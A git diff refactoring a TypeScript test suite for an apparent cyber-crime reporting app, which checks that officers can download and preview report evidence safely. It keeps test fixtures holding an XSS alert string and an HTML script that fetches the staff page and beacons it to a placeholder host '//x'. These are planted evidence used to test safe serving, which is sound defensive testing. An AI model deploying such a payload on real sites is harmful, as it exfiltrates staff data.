@@ -4,19 +4,24 @@
  * when taken away.
  */
 import { spawnSync } from 'node:child_process';
-import { createHash } from 'node:crypto';
 import { mkdtempSync, readdirSync, readFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { Readable } from 'node:stream';
-import type { LightMyRequestResponse } from 'fastify';
 import type { TOTP } from 'otpauth';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { StaffMember } from '../../../domain/access/access-policy.ts';
 import type { CliIo } from '../../../cli/cli-io.ts';
 import { runCli } from '../../../cli/main.ts';
 import { addStaff, signInStaff } from '../../../../test/support/staff-fixtures.ts';
-import { makeSubmission } from '../../../../test/support/submissions.ts';
+import {
+  auditRows,
+  fileHeadersOf,
+  plantEvidence,
+  PNG,
+  reportWithFiles,
+  sha256,
+} from '../../../../test/support/evidence-fixtures.ts';
 import { createTestApp } from '../../../../test/support/test-app.ts';
 import {
   TEST_AUDIT_SIGNING_KEY,
@@ -24,10 +29,6 @@ import {
   testDialect,
 } from '../../../../test/support/test-services.ts';
 
-const PNG = Buffer.from([
-  0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52, 0x00, 0x00,
-  0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x08, 0x06, 0x00, 0x00, 0x00, 0x1f, 0x15, 0xc4, 0x89,
-]);
 const TEXT = 'He said: <script>alert("x")</script> & pay £500 to 20-00-00 12345678\n';
 const EML = [
   'From: "Bank Security" <alerts@bank-secure.example>',
@@ -61,8 +62,6 @@ const EML = [
 const HTML =
   '<!doctype html><script>fetch("/staff").then(r=>r.text()).then(t=>navigator.sendBeacon("//x",t))</script>';
 
-const sha256 = (bytes: Buffer | string) => createHash('sha256').update(bytes).digest('hex');
-
 describe(`report evidence for officers: download, preview, add to a case (${testDialect})`, () => {
   let ctx: Awaited<ReturnType<typeof createTestApp>>;
   const totps = new Map<string, TOTP>();
@@ -83,24 +82,8 @@ describe(`report evidence for officers: download, preview, add to a case (${test
     ['adviser@nfib.example', 'call-handler', undefined],
   ] as const;
 
-  async function report(category: 'sextortion' | null, items: { name: string; content: Buffer | string }[]) {
-    const evidence = [];
-    for (const item of items)
-      evidence.push(await ctx.services.evidence.store(item.name, Buffer.from(item.content)));
-    // Routed to the Cumbria cyber crime unit.
-    const narrative = 'someone hacked my email account and is blackmailing me';
-    const submitted = await ctx.services.reportIntake.submit(
-      makeSubmission({ category, narrative, evidence }),
-    );
-    await ctx.services.intelligence.linkPending();
-    const rows = await ctx.services.database.db
-      .selectFrom('report_evidence')
-      .innerJoin('reports', 'reports.id', 'report_evidence.report_id')
-      .select(['report_evidence.id', 'report_evidence.file_name'])
-      .where('reports.reference', '=', submitted.reference)
-      .execute();
-    return { reference: submitted.reference, ids: new Map(rows.map((r) => [r.file_name, r.id])) };
-  }
+  const report = (category: 'sextortion' | null, items: { name: string; content: Buffer | string }[]) =>
+    reportWithFiles(ctx.services, category, items);
 
   beforeAll(async () => {
     // The clock moves only to see an image's confirmation run out.
@@ -119,36 +102,14 @@ describe(`report evidence for officers: download, preview, add to a case (${test
     reference = made.reference;
     for (const [name, id] of made.ids) files.set(name, id);
     // A page planted as evidence (an older version, a migration, another way in): stored as text/html.
-    const db = ctx.services.database.db;
-    const reportId = (
-      await db.selectFrom('reports').select('id').where('reference', '=', reference).executeTakeFirstOrThrow()
-    ).id;
-    await ctx.services.database.db
-      .insertInto('evidence_blobs')
-      .values({
-        sha256: sha256(HTML),
-        size: HTML.length,
-        content: Buffer.from(HTML),
-        created_at: new Date().toISOString(),
-      })
-      .execute();
-    await db
-      .insertInto('report_evidence')
-      .values({
-        report_id: reportId,
-        sha256: sha256(HTML),
-        file_name: 'invoice.html',
-        content_type: 'text/html',
-        size: HTML.length,
-        created_at: new Date().toISOString(),
-      })
-      .execute();
-    const planted = await db
-      .selectFrom('report_evidence')
-      .select('id')
-      .where('file_name', '=', 'invoice.html')
-      .executeTakeFirstOrThrow();
-    files.set('invoice.html', planted.id);
+    files.set(
+      'invoice.html',
+      await plantEvidence(ctx.services, reference, {
+        name: 'invoice.html',
+        contentType: 'text/html',
+        content: HTML,
+      }),
+    );
     const restricted = await report('sextortion', [{ name: 'threat.png', content: PNG }]);
     restrictedRef = restricted.reference;
     restrictedPng = restricted.ids.get('threat.png') ?? 0;
@@ -162,13 +123,7 @@ describe(`report evidence for officers: download, preview, add to a case (${test
   };
   const signIn = (email: string) => signInStaff(ctx.app, email, totps.get(email) as TOTP);
   const fileUrl = (name: string, ref = reference) => `/staff/reports/${ref}/evidence/${files.get(name) ?? 0}`;
-  const audits = (action: string) =>
-    ctx.services.database.db
-      .selectFrom('audit_log')
-      .select(['actor', 'reference', 'detail'])
-      .where('action', '=', action)
-      .orderBy('id')
-      .execute();
+  const audits = (action: string) => auditRows(ctx.services, action);
   /** The error summary's links, as `input: message`. */
   const errorSummary = (body: string) =>
     [
@@ -176,13 +131,6 @@ describe(`report evidence for officers: download, preview, add to a case (${test
         /<a href="#([\w-]+)">([^<]+)<\/a>/g,
       ),
     ].map((m) => `${m[1] ?? ''}: ${m[2] ?? ''}`);
-  const fileHeadersOf = (res: LightMyRequestResponse) => ({
-    'content-type': res.headers['content-type'],
-    'content-disposition': res.headers['content-disposition'],
-    'x-content-type-options': res.headers['x-content-type-options'],
-    'content-security-policy': res.headers['content-security-policy'],
-    'cache-control': res.headers['cache-control'],
-  });
 
   it('lists the files on the report with a page for each that opens nothing', async () => {
     const client = await signIn('off@cumbria.example');
